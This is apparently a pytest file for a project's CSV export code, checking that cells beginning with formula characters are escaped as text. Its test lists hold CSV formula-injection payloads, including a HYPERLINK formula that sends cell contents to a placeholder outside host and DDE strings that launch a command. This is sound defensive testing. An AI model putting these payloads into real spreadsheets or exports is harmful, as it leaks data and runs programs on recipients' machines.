"""Who puts a formula where somebody will export it, and what the spreadsheet gets: text."""

import ast
import csv
import io
from pathlib import Path

import pytest

from nrm.spreadsheets import as_csv, cell, plain, rows_of_csv, would_be_formula

ROOT = Path(__file__).resolve().parents[2]
ROOMS = ("nrm", "identities", "cases", "screening", "protection", "exchange", "reporting")
FORMULAS = [
    '=HYPERLINK("http://far.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",  # noqa: RUF001
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠a",  # noqa: RUF001
    "|calc",
    "%0A=1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_in_a_csv_cell_is_text_in_every_column(formula):
    text = as_csv([(formula, 'safe, "quoted"', 12), ("a", formula, None)])
    first, second = csv.reader(io.StringIO(text, newline=""))
    # Behind a tab or an end of line it would be one again.
    told = f"'{formula[0]}'{formula[1:]}" if formula[0] in "\t\r\n" else f"'{formula}"
    assert first == [told, 'safe, "quoted"', "12"]
    assert second == ["a", told, ""]


INSIDE = [
    "x;=cmd|'/c calc'!A0;y",
    "x\t=1+1",
    'x; "=1+1"',
    "x\n=1+1",
    'x;\t""@SUM(A1)',
    "x;'=1+1",
    "'x;''=1+1",
    "x;\n;=1;-2\n- 3",
    " \n=1",
    "x;＝1",  # noqa: RUF001
]


@pytest.mark.parametrize("text", [*INSIDE, *FORMULAS, "'=1", "''-1", "'", "''", ";", "a'b;c", "\n"])
def test_a_program_that_divides_elsewhere_gets_no_formula_and_ours_gets_what_was_there(text):
    written = as_csv([("a", text, "z"), (text, text, "b;")])
    assert [row[1] for row in rows_of_csv(written)] == [text, text]
    for delimiter in ";\t":
        for line in csv.reader(io.StringIO(written, newline=""), delimiter=delimiter):
            assert [one for one in line if would_be_formula(one.lstrip())] == []
    for line in written.splitlines():
        assert [one for one in line.split(";") if would_be_formula(one.strip(' "\t'))] == []


def test_a_long_text_of_dividers_is_written_in_the_time_of_its_length():
    for text in ("\n" * 300_000, ";' " * 100_000 + "x", "'" * 300_000, "; =" * 100_000):
        assert plain(str(cell(text))) == text


def test_what_is_no_formula_stays_as_it_is():
    rows = [("Adult", "[c]", -5, 0, "12-17", "a=b", "")]
    assert as_csv(rows) == "Adult,[c],-5,0,12-17,a=b,\r\n"


def test_no_export_writes_csv_or_spreadsheets_past_the_one_that_escapes():
    writers = {"csv", "openpyxl", "xlsxwriter", "odf", "tablib"}
    found = []
    for room in ROOMS:
        for path in (ROOT / room).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text())):
                names = [a.name for a in node.names] if isinstance(node, ast.Import) else []
                names += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
                found += [str(path.relative_to(ROOT)) for n in names if n.split(".")[0] in writers]
    reads = "exchange/registers/reading.py"
    assert sorted(found) == [reads, "nrm/spreadsheets.py"]
    text = (ROOT / reads).read_text()
    assert not [name for name in ("csv.writer", "DictWriter") if name in text]
